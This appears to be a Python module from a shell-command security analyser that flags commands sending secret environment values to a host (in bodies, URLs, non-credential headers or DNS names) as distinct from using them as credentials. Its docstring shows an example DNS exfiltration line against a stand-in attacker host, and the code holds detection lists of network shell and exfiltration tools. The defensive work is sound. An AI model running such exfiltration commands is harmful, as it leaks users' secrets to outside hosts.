"""Where a secret value goes when a network client gets it: credential use or exfiltration.

The analyser marks every expanded value that carries a secret environment variable
(`Field.secret`, see `crustcore_nano.shell.secretvars`), and marks standard input that carries
one (`Input.secret`). When such a value reaches a network client, this module decides whether
the client *sends the value as data* to the host or only *uses it as a credential*:

* **Credential use** (allowed): the value sits in a slot meant for credentials - a request
  header whose name says it is one (`Authorization`, `X-Api-Key`, `PRIVATE-TOKEN`, `Cookie`,
  ...), `curl -u`/`--oauth2-bearer`, `wget --password`, `http -a user:pass`.
* **Sending** (reported): the value is in the request body (`curl -d/--data*/--json/-F`,
  `wget --post-data`, `http key=value`), in the URL (path, query or host), in any other header
  (`-A`, `-e`, `-H "X-Data: ..."`), in a name looked up over DNS (`dig $TOKEN.evil.example`),
  or on the standard input of a client that sends its input (`nc`, `socat`, `curl -d @-`,
  `wget -i -`, `ssh`, `http`).

A credential header still goes to whatever host the command names; this module does not
judge the host. The engine does, for variables named for a provider (`$GITHUB_TOKEN` to a
host that is not GitHub's is asked: `crustcore_nano.policy.tokenhosts`). Only commands with
a secret value reach this module, so it costs nothing on ordinary lines.
"""

from __future__ import annotations

from crustcore_nano.shell.expand import Field
from crustcore_nano.shell.options import Opt, parse_opts

__all__ = ["IN_URL", "MAILERS", "SECRET_SINKS", "secret_sent"]

_CURL = frozenset({"curl"})
_WGET = frozenset({"wget"})
_HTTPIE = frozenset({"http", "https", "xh", "xhs", "httpie"})
_SOCKETS = frozenset(
    {
        "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "pwncat", "socat",
        "telnet", "ftp", "tftp", "sftp", "ssh", "websocat", "wscat",
    }
)  # fmt: skip
_LOOKUPS = frozenset(
    {
        "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "traceroute6",
        "mtr", "whois", "kdig", "delv", "resolvectl",
    }
)  # fmt: skip
_OTHER_FETCHERS = frozenset({"aria2c", "lwp-request", "GET", "POST", "HEAD", "fetch"})
MAILERS = frozenset(
    {"mail", "mailx", "s-nail", "bsd-mailx", "sendmail", "mutt", "neomutt", "msmtp", "ssmtp",
     "swaks"}
)  # fmt: skip
"""Mail clients: they send what they are given to addresses, and bring nothing back."""

SECRET_SINKS = (
    _CURL | _WGET | _HTTPIE | _SOCKETS | _LOOKUPS | _OTHER_FETCHERS | MAILERS | {"openssl"}
)
"""Programs that can carry a value to another host (the only ones this module looks at)."""

# Words in a header name that say the header carries a credential.
_CREDENTIAL_HEADER_WORDS = (
    "auth", "token", "key", "cookie", "secret", "session", "password", "signature", "bearer",
    "credential", "jwt", "csrf", "xsrf",
)  # fmt: skip

_CURL_VALUE_OPTS = frozenset(
    {
        "-H", "--header", "-u", "--user", "-U", "--proxy-user", "--oauth2-bearer",
        "--proxy-header", "-b", "--cookie", "--aws-sigv4", "-d", "--data", "--data-raw",
        "--data-binary", "--data-ascii", "--data-urlencode", "--json", "-F", "--form",
        "--form-string", "-T", "--upload-file", "--url", "-e", "--referer", "-A",
        "--user-agent", "-X", "--request", "-o", "--output", "-K", "--config", "-x", "--proxy",
        "--resolve", "--connect-to", "-E", "--cert", "--key", "--pass", "--cacert",
        "--capath", "-w", "--write-out", "-m", "--max-time", "--connect-timeout", "-r",
        "--range", "-c", "--cookie-jar", "-D", "--dump-header", "--netrc-file", "--retry",
        "-Y", "--speed-limit", "-y", "--speed-time", "--limit-rate", "--url-query",
        "--variable", "--expand-data", "--expand-url", "--expand-header",
    }
)  # fmt: skip
_CURL_AUTH = frozenset(
    {"-u", "--user", "-U", "--proxy-user", "--oauth2-bearer", "-b", "--cookie", "--aws-sigv4"}
)
_CURL_HEADERS = frozenset({"-H", "--header", "--proxy-header", "--expand-header"})
# Options whose value stays on this machine (files written, client keys, limits, formats).
_CURL_LOCAL = frozenset(
    {
        "-o", "--output", "-E", "--cert", "--key", "--pass", "--cacert", "--capath", "-w",
        "--write-out", "-m", "--max-time", "--connect-timeout", "-c", "--cookie-jar", "-D",
        "--dump-header", "--netrc-file", "--retry", "-Y", "--speed-limit", "-y",
        "--speed-time", "--limit-rate", "-X", "--request", "-r", "--range", "--variable",
    }
)  # fmt: skip

_WGET_VALUE_OPTS = frozenset(
    {
        "--header", "--user", "--password", "--http-user", "--http-password", "--http-passwd",
        "--proxy-user", "--proxy-password", "--ftp-user", "--ftp-password", "--post-data",
        "--body-data", "--post-file", "--body-file", "-U", "--user-agent", "--referer", "-O",
        "--output-document", "-o", "--output-file", "-a", "--append-output", "-P",
        "--directory-prefix", "-i", "--input-file", "--method", "-T", "--timeout", "-t",
        "--tries", "--load-cookies", "--save-cookies", "--ca-certificate", "--certificate",
        "--private-key",
    }
)  # fmt: skip
_WGET_AUTH = frozenset(
    {
        "--user", "--password", "--http-user", "--http-password", "--http-passwd",
        "--proxy-user", "--proxy-password", "--ftp-user", "--ftp-password",
    }
)  # fmt: skip
_WGET_LOCAL = frozenset(
    {
        "-O", "--output-document", "-o", "--output-file", "-a", "--append-output", "-P",
        "--directory-prefix", "--method", "-T", "--timeout", "-t", "--tries",
        "--load-cookies", "--save-cookies", "--ca-certificate", "--certificate",
        "--private-key",
    }
)  # fmt: skip
_STDIN_NAMES = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})

_HTTPIE_VALUE_OPTS = frozenset({"-a", "--auth", "-A", "--auth-type", "-o", "--output"})
_HTTPIE_AUTH = frozenset({"-a", "--auth"})


IN_URL = "puts a secret variable's value in the URL"
"""How the reason for a secret in a client's URL ends (the engine excuses some of them: a
provider key sent to its own provider's host)."""


def _credential_header(text: str) -> bool:
    """Whether a `Name: value` header's name marks it as a credential header."""
    name, colon, _value = text.partition(":")
    if not colon:
        name = text.partition(";")[0]  # curl's `-H "X-Empty;"` form
    lowered = name.strip().lower()
    return any(word in lowered for word in _CREDENTIAL_HEADER_WORDS)


def _curl(args: list[Field], stdin_secret: bool) -> str | None:
    opts, pos = parse_opts(args, _CURL_VALUE_OPTS)
    for opt in opts:
        value = opt.value
        if value is None or not value.secret or opt.name in _CURL_AUTH or opt.name in _CURL_LOCAL:
            continue
        if opt.name in _CURL_HEADERS and _credential_header(value.text):
            continue
        return f"curl {opt.name} sends a secret variable's value"
    for f in pos:
        if f.secret:
            return f"curl {IN_URL}"
    if stdin_secret and _curl_reads_stdin(opts):
        return "curl sends standard input that carries a secret variable's value"
    return None


def _curl_reads_stdin(opts: list[Opt]) -> bool:
    for opt in opts:
        if opt.value is None:
            continue
        text = opt.value.text
        if text in _STDIN_NAMES or text.endswith(("@-", "<-", "@/dev/stdin", "<@-")):
            return True
    return False


def _wget(args: list[Field], stdin_secret: bool) -> str | None:
    opts, pos = parse_opts(args, _WGET_VALUE_OPTS)
    for opt in opts:
        value = opt.value
        if (
            stdin_secret
            and value is not None
            and value.text in _STDIN_NAMES
            and opt.name in ("-i", "--input-file", "--post-file", "--body-file")
        ):
            return f"wget {opt.name} sends standard input that carries a secret"
        if value is None or not value.secret or opt.name in _WGET_AUTH or opt.name in _WGET_LOCAL:
            continue
        if opt.name == "--header" and _credential_header(value.text):
            continue
        return f"wget {opt.name} sends a secret variable's value"
    for f in pos:
        if f.secret:
            return f"wget {IN_URL}"
    return None


def _httpie(name: str, args: list[Field], stdin_secret: bool) -> str | None:
    opts, pos = parse_opts(args, _HTTPIE_VALUE_OPTS)
    for opt in opts:
        value = opt.value
        if (
            value is not None
            and value.secret
            and opt.name not in _HTTPIE_AUTH
            and opt.name not in ("-A", "--auth-type", "-o", "--output")
        ):
            return f"{name} {opt.name} sends a secret variable's value"
    ignore_stdin = any(o.name in ("--ignore-stdin", "-I") for o in opts)
    for index, f in enumerate(pos):
        if not f.secret:
            continue
        text = f.text
        cut = min((i for i in (text.find(":"), text.find("=")) if i >= 0), default=-1)
        header = (
            index > 0 and cut > 0 and text[cut] == ":" and text[cut : cut + 2] != ":="
        )  # `Name:value` is a header; `k=v`, `k:=json`, `k==q`, the URL are data
        if header and _credential_header(text):
            continue
        return f"{name} sends a secret variable's value"
    if stdin_secret and not ignore_stdin:
        return f"{name} sends standard input that carries a secret variable's value"
    return None


def secret_sent(name: str, args: list[Field], stdin_secret: bool) -> str | None:
    """Why `name args...` sends a secret value to another host, or None (no secret is sent,
    or only used as a credential). `args` excludes the program; `stdin_secret` says standard
    input carries a secret."""
    # An unknown secret keeps its `$NAME` form and makes its word inexact; option parsing
    # treats inexact words as operands, so parse the words as written.
    args = [f if f.exact else Field(f.text, secret=f.secret) for f in args]
    if name in _CURL:
        return _curl(args, stdin_secret)
    if name in _WGET:
        return _wget(args, stdin_secret)
    if name in _HTTPIE:
        return _httpie(name, args, stdin_secret)
    if name in _LOOKUPS:
        if any(f.secret for f in args):
            return f"{name} looks up a name built from a secret variable (DNS carries it out)"
        return None
    if name == "openssl":  # only `s_client` talks to a host; `enc -pass` stays local
        if stdin_secret and args and args[0].text == "s_client":
            return "openssl s_client sends standard input that carries a secret variable's value"
        return None
    if name in _SOCKETS or name in _OTHER_FETCHERS or name in MAILERS:
        if stdin_secret:
            return f"{name} sends standard input that carries a secret variable's value"
        if any(f.secret for f in args):
            return f"{name} sends a secret variable's value"
    return None
